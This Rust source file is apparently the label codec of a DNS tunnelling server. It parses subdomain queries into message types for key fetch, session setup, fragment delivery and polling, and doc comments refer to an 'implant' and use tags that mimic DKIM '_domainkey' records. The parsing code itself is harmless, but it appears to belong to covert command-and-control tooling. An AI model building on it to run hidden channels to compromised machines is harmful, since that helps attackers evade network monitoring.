//! Subdomain label codec.
//!
//! Queries arrive as `field0.field1.…fieldN.<tag>` below the apex. The first
//! field is always a client-supplied nonce that busts recursor caches and is
//! never interpreted. Encrypted fields travel as unpadded base32 (DNS names
//! are case-insensitive on the wire, so case is normalized on ingest);
//! send-block chunks travel in TXT strings as raw base64 with a leading "."
//! so a client can concatenate them straight into a label list.

use data_encoding::{BASE32_NOPAD, BASE64_NOPAD};
use rand::Rng;

use crate::errors::TunnelError;

pub const MAX_TXT_STRING: usize = 255;

pub const SESSION_ID_SIZE: usize = 8;
pub const BLOCK_ID_SIZE: usize = 6;

const DNS_CHARSET: &[u8] = b"abcdefghijklmnopqrstuvwxyz0123456789-_";

const TAG_DOMAIN_KEY: &str = "_domainkey";
const TAG_BLOCK: &str = "_b";
const TAG_CLEAR_BLOCK: &str = "_cb";
const TAG_SESSION_INIT: &str = "_si";
const TAG_SESSION_HEADER: &str = "_sh";
const TAG_SESSION_MSG: &str = "s";
const TAG_SESSION_POLL: &str = "_sp";

/// The seven message types a TXT query can carry.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum MsgType {
    /// `_<nonce>.<implant>._domainkey` — fetch the apex public key.
    DomainKey,
    /// `_<nonce>.<start>.<stop>.<block_id>._b` — fetch send-block chunks.
    BlockRange,
    /// `_<nonce>.<block_id>._cb` — clear a send block.
    ClearBlock,
    /// `_<nonce>.<sealed_key…>.<implant>._si` — open a session.
    SessionInit,
    /// `_<nonce>.<sealed_header>.<session_id>._sh` — announce an inbound block.
    SessionHeader,
    /// `_<nonce>.<seq|payload>.<sealed_header_id>.<session_id>.s` — one fragment.
    SessionMsg,
    /// `_<nonce>.<session_id>._sp` — drain one outbound envelope.
    SessionPoll,
}

impl MsgType {
    pub fn from_tag(tag: &str) -> Option<MsgType> {
        match tag {
            TAG_DOMAIN_KEY => Some(MsgType::DomainKey),
            TAG_BLOCK => Some(MsgType::BlockRange),
            TAG_CLEAR_BLOCK => Some(MsgType::ClearBlock),
            TAG_SESSION_INIT => Some(MsgType::SessionInit),
            TAG_SESSION_HEADER => Some(MsgType::SessionHeader),
            TAG_SESSION_MSG => Some(MsgType::SessionMsg),
            TAG_SESSION_POLL => Some(MsgType::SessionPoll),
            _ => None,
        }
    }
}

/// Strips the apex suffix from a query name, case-insensitively.
///
/// Returns the remaining subdomain, or `None` when the name is not a strict
/// subdomain of the apex (the apex itself does not qualify).
pub fn strip_apex(qname: &str, apex: &str) -> Option<String> {
    let name = qname.trim_end_matches('.').to_ascii_lowercase();
    let apex = apex.trim_matches('.').to_ascii_lowercase();
    let suffix = format!(".{}", apex);
    let sub = name.strip_suffix(&suffix)?;
    if sub.is_empty() {
        return None;
    }
    Some(sub.to_string())
}

pub fn split_fields(subdomain: &str) -> Vec<&str> {
    subdomain.split('.').filter(|f| !f.is_empty()).collect()
}

/// Decodes an unpadded base32 field, normalizing case first.
pub fn decode_base32(field: &str) -> Result<Vec<u8>, TunnelError> {
    BASE32_NOPAD
        .decode(field.to_ascii_uppercase().as_bytes())
        .map_err(|_| TunnelError::Decode)
}

pub fn encode_base32(data: &[u8]) -> String {
    BASE32_NOPAD.encode(data).to_ascii_lowercase()
}

pub fn decode_base64(s: &str) -> Result<Vec<u8>, TunnelError> {
    BASE64_NOPAD.decode(s.as_bytes()).map_err(|_| TunnelError::Decode)
}

pub fn encode_base64(data: &[u8]) -> String {
    BASE64_NOPAD.encode(data)
}

/// Encodes one send-block window as a TXT chunk string:
/// "." + base64(little-endian sequence number || window).
pub fn chunk_label(seq: u32, window: &[u8]) -> String {
    let mut raw = Vec::with_capacity(4 + window.len());
    raw.extend_from_slice(&seq.to_le_bytes());
    raw.extend_from_slice(window);
    format!(".{}", BASE64_NOPAD.encode(&raw))
}

/// Splits a fragment into its sequence number and payload.
pub fn split_fragment(raw: &[u8]) -> Result<(u32, &[u8]), TunnelError> {
    if raw.len() <= 4 {
        return Err(TunnelError::Decode);
    }
    let (seq_bytes, payload) = raw.split_at(4);
    let seq = u32::from_le_bytes(seq_bytes.try_into().expect("split_at(4) yields 4 bytes"));
    Ok((seq, payload))
}

/// Random ID from the DNS-safe alphabet. The thread RNG is seeded once by
/// the library; uniqueness is enforced by the stores at insert time.
pub fn random_id(len: usize) -> String {
    let mut rng = rand::thread_rng();
    (0..len)
        .map(|_| DNS_CHARSET[rng.gen_range(0..DNS_CHARSET.len())] as char)
        .collect()
}
